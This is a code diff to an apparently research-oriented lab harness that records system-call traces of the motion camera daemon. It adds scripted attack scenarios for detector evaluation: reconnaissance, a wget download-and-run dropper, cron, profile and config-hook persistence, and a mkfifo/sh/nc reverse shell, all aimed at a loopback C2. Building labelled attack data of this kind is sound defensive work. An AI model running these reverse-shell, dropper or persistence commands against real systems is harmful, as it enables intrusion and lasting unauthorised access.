@@ -26,6 +26,16 @@ Scenarios:
   api-tamper  no new process at all: pause detection, raise the threshold and write the config
               through motion's own web-control API
 
+Further scenarios with other tools, for a fresh set that no detector was tuned on (issue #17):
+  recon2      reconnaissance through the exec channel: `find` set-uid programs, `ss` and
+              `netstat` for listening ports, /proc/net/tcp, `env`, /root and /home, `getent passwd`
+  dropper2    download-and-run with `wget`: the payload probes loopback ports with `nc -z` and
+              hashes /dev/urandom through `sha256sum` for 2-3 s, then is deleted
+  persist     persistence: a hidden script in /tmp, a crontab entry (`busybox crontab`), a line in
+              the shell rc file and an `on_event_start` hook added to motion.conf with `sed -i`
+  revshell2   a reverse shell made with a FIFO, `sh -i` and `nc` to a loopback C2; `whoami`,
+              `uname -a` and `ls` over it, then exit
+
 Outputs in --out: trace.strace.gz, labels.txt (empty for `normal`), activity.log (what the
 driver did and when), meta.json (seed, scenario, versions, start/end).
 
@@ -51,6 +61,16 @@ import urllib.request
 from pathlib import Path
 
 NEEDED = ["motion", "ffmpeg", "strace", "curl", "ps", "bash", "vim.tiny", "tar"]
+# Programs only the newer scenarios use (Debian packages: findutils, iproute2, net-tools, wget,
+# netcat-openbsd, busybox, coreutils).
+NEEDED_BY = {
+    "recon2": ["find", "ss", "netstat", "getent", "env"],
+    "dropper2": ["wget", "nc", "dd", "sha256sum"],
+    "persist": ["busybox", "sed"],
+    "revshell2": ["mkfifo", "nc", "cat"],
+}
+# Where persist's hidden script goes; the harness removes it after the recording (untraced).
+PERSIST_SCRIPT = "/tmp/.motion-helper"
 
 
 def now():
@@ -348,6 +368,100 @@ class Lab:
         self.pause(rng)
         self.step("write-config", lambda: self.http_get(c, "/0/config/write"))
 
+    def attack_recon2(self, rng):
+        self.step("find-suid", lambda: self.exec(
+            "find /usr/bin /usr/sbin /usr/local/bin -perm -4000 -type f 2>/dev/null | head -20"))
+        self.pause(rng)
+        self.step("listening-ports", lambda: self.exec("ss -tlnp; netstat -tulpn"))
+        self.pause(rng)
+        self.step("proc-net", lambda: self.exec("cat /proc/net/tcp /proc/net/tcp6 /proc/net/route"))
+        self.pause(rng)
+        self.step("environment", lambda: self.exec("env"))
+        self.pause(rng)
+        self.step("users", lambda: self.exec("ls -la /root /home; getent passwd"))
+
+    def attack_dropper2(self, rng):
+        files = self.ports["files"]
+        self.step("download", lambda: self.exec(
+            f"wget -q -O /tmp/.kworker http://127.0.0.1:{files}/kworker"))
+        self.pause(rng)
+        self.step("run-payload", lambda: self.exec("chmod +x /tmp/.kworker && /tmp/.kworker"))
+        self.pause(rng)
+        self.step("delete-payload", lambda: self.exec("rm -f /tmp/.kworker"))
+
+    def attack_persist(self, rng):
+        script = PERSIST_SCRIPT
+        self.step("hidden-script", lambda: self.exec(
+            f"printf '#!/bin/sh\\n# keeps a foothold\\necho \"$(date) $*\" >> {script}.log\\n'"
+            f" > {script} && chmod +x {script}"))
+        self.pause(rng)
+        crontabs = self.root / "var/spool/cron/crontabs"
+        self.step("crontab", lambda: self.exec(
+            f"mkdir -p {crontabs} && "
+            f"echo '*/5 * * * * {script}' | busybox crontab -c {crontabs} -"))
+        self.pause(rng)
+        self.step("shell-rc", lambda: self.exec(
+            f"echo '({script} >/dev/null 2>&1 &)' >> \"$HOME/.profile\""))
+        self.pause(rng)
+        self.step("hook-config", lambda: self.exec(
+            f"sed -i '$a on_event_start {script} %v' {self.conf}"))
+
+    def attack_revshell2(self, rng):
+        c2 = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        c2.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        c2.bind(("127.0.0.1", self.ports["c2"]))
+        c2.listen(1)
+        c2.settimeout(10)
+        conn = {}
+        fifo = "/tmp/.p"
+
+        def shell():
+            # The step lasts until the shell answers: its start-up is part of what it does.
+            # `nc -N` shuts the connection down when the shell exits, so the C2 sees it go.
+            self.exec(f"(rm -f {fifo}; mkfifo {fifo}; cat {fifo} | sh -i 2>&1 | "
+                      f"nc -N 127.0.0.1 {self.ports['c2']} > {fifo}; rm -f {fifo}) "
+                      ">/dev/null 2>&1 &")
+            conn["s"], _ = c2.accept()
+            conn["s"].settimeout(20)
+            run("")
+
+        def run(cmds):
+            marker = f"__end_{rng.randrange(1 << 30)}__"
+            conn["s"].sendall((cmds + f"\necho {marker}\n").lstrip().encode())
+            buf = b""
+            while marker.encode() not in buf:
+                try:
+                    chunk = conn["s"].recv(65536)
+                except OSError:
+                    break
+                if not chunk:
+                    break
+                buf += chunk
+
+        self.step("reverse-shell", shell)
+        self.pause(rng)
+        self.step("whoami-uname", lambda: run("whoami; uname -a"))
+        self.pause(rng)
+        self.step("list-files", lambda: run(f"ls -la; ls -la {self.data_dir} | head"))
+        self.pause(rng)
+
+        def leave():
+            # The step lasts until the shell has gone: its exit is part of what it does.
+            conn["s"].sendall(b"exit\n")
+            try:
+                while conn["s"].recv(65536):
+                    pass
+            except OSError:
+                pass
+            conn["s"].close()
+            # ... and until the pipeline's subshell has removed the FIFO, its last act.
+            end = now() + 10
+            while os.path.exists(fifo) and now() < end:
+                time.sleep(0.01)
+
+        self.step("exit-shell", leave)
+        c2.close()
+
     def file_server(self):
         """Loopback server the attacks download from and upload to."""
         payload = (
@@ -359,13 +473,29 @@ class Lab:
             "timeout 3 sha256sum /dev/zero\n"
             "echo 'ok'\n"
         ).encode()
+        # dropper2's payload, served at /kworker (every other path serves the one above)
+        kworker = (
+            "#!/bin/sh\n"
+            "# another dropper's payload: probe loopback ports, then hash random data for 2-3 s\n"
+            "for p in 22 23 80 554 1883 8000 8554 "
+            f"{self.ports['control']} {self.ports['stream']}; do\n"
+            "  nc -z -w 1 127.0.0.1 $p 2>/dev/null && echo open $p\n"
+            "done\n"
+            "end=$(( $(date +%s) + 3 ))\n"
+            "while [ \"$(date +%s)\" -lt \"$end\" ]; do\n"
+            "  dd if=/dev/urandom bs=1M count=16 2>/dev/null | sha256sum\n"
+            "done\n"
+            "echo 'ok'\n"
+        ).encode()
+        bodies = {"/kworker": kworker}
 
         class Handler(http.server.BaseHTTPRequestHandler):
             def do_GET(self):
+                body = bodies.get(self.path, payload)
                 self.send_response(200)
-                self.send_header("Content-Length", str(len(payload)))
+                self.send_header("Content-Length", str(len(body)))
                 self.end_headers()
-                self.wfile.write(payload)
+                self.wfile.write(body)
 
             def do_PUT(self):
                 n = int(self.headers.get("Content-Length", "0"))
@@ -416,11 +546,19 @@ class Lab:
                 "dropper": self.attack_dropper,
                 "exfil": self.attack_exfil,
                 "api-tamper": self.attack_api_tamper,
+                "recon2": self.attack_recon2,
+                "dropper2": self.attack_dropper2,
+                "persist": self.attack_persist,
+                "revshell2": self.attack_revshell2,
             }[a.scenario](rng)
         driver.join(max(0.0, until - now()) + 60)
         meta["end"] = now()
         self.shutdown()
         srv.shutdown()
+        if a.scenario == "persist":
+            # persist's foothold outside the output folder; after the trace ended, so untraced
+            Path(PERSIST_SCRIPT).unlink(missing_ok=True)
+            Path(PERSIST_SCRIPT + ".log").unlink(missing_ok=True)
         with open(self.out / "labels.txt", "w") as f:
             f.write(f"# attack steps of scenario `{a.scenario}` (seed {a.seed}); "
                     "FROM TO name, epoch seconds\n")
@@ -483,7 +621,8 @@ def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     p.add_argument("--out", required=True, help="folder for the recording (replaced)")
     p.add_argument("--scenario", default="normal",
-                   choices=["normal", "paper", "dropper", "exfil", "api-tamper"])
+                   choices=["normal", "paper", "dropper", "exfil", "api-tamper", "recon2",
+                            "dropper2", "persist", "revshell2"])
     p.add_argument("--duration", type=float, default=900.0, help="seconds (the paper: 900)")
     p.add_argument("--attack-at", type=float, default=None,
                    help="seconds after the start when the attack begins (default: 40 %% of it)")
@@ -491,7 +630,7 @@ def main():
     p.add_argument("--port", type=int, default=18080,
                    help="first of five loopback ports (control, stream, camera, C2, files)")
     a = p.parse_args()
-    missing = [n for n in NEEDED if shutil.which(n) is None]
+    missing = [n for n in NEEDED + NEEDED_BY.get(a.scenario, []) if shutil.which(n) is None]
     if missing:
         raise SystemExit(f"record-motion: missing programs: {' '.join(missing)} "
                          "(scripts/record-motion.sh installs them)")
